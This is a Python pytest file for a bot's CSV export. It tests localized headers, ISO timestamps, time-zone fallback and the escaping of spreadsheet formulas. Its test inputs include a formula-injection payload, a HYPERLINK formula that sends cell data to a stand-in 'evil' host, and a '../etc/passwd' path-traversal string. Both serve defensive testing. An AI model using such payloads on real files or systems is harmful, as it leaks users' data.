"""The CSV opens as it is in spreadsheets, and nothing in it is a formula."""

from __future__ import annotations

import csv
from io import StringIO
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.platforms.web.csv_file import render_head, render_row, zone_named

SHANGHAI = ZoneInfo("Asia/Shanghai")


def read(data):
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


def test_file_begins_with_the_mark_of_utf_8_and_a_head_in_the_readers_language():
    assert render_head("zh", SHANGHAI).startswith(b"\xef\xbb\xbf")
    assert read(render_head("zh", SHANGHAI)) == [
        ["时间（Asia/Shanghai）", "问题", "照片数", "回答"]
    ]
    assert read(render_head("en", SHANGHAI)) == [
        ["time (Asia/Shanghai)", "question", "photos", "answer"]
    ]


def test_row_has_an_iso_time_and_the_whole_texts():
    row = render_row(1_800_000_000.9, '图里有什么？\n"红"', 2, "a, b", SHANGHAI)

    assert read(row) == [["2027-01-15T16:00:00+08:00", '图里有什么？\n"红"', "2", "a, b"]]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil/"&A1)',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\n=1",
        "＝1",
    ],
)
@pytest.mark.row(60)
def test_formula_is_text(text):
    [[_, question, _, answer]] = read(render_row(0.0, text, 0, text, SHANGHAI))

    assert (question, answer) == (f"'{text}", f"'{text}")


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
@pytest.mark.row(60)
def test_no_cell_begins_as_a_formula_and_no_text_is_lost(text):
    [row] = read(render_row(0.0, text, 0, "x", SHANGHAI))

    assert not row[1].lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row[1].removeprefix("'") == text.removeprefix("'")


def test_times_without_a_known_zone_are_the_machines():
    zone = zone_named("", "Mars/Olympus", "../etc/passwd", "Europe")

    assert zone is None
    assert read(render_head("en", zone))[0][0] == "time (the server's zone)"


def test_first_zone_that_is_known_is_taken():
    zone = zone_named("nowhere", "Europe/Berlin", "Asia/Shanghai")

    assert read(render_row(0.0, "", 0, "", zone))[0][0] == "1970-01-01T01:00:00+01:00"
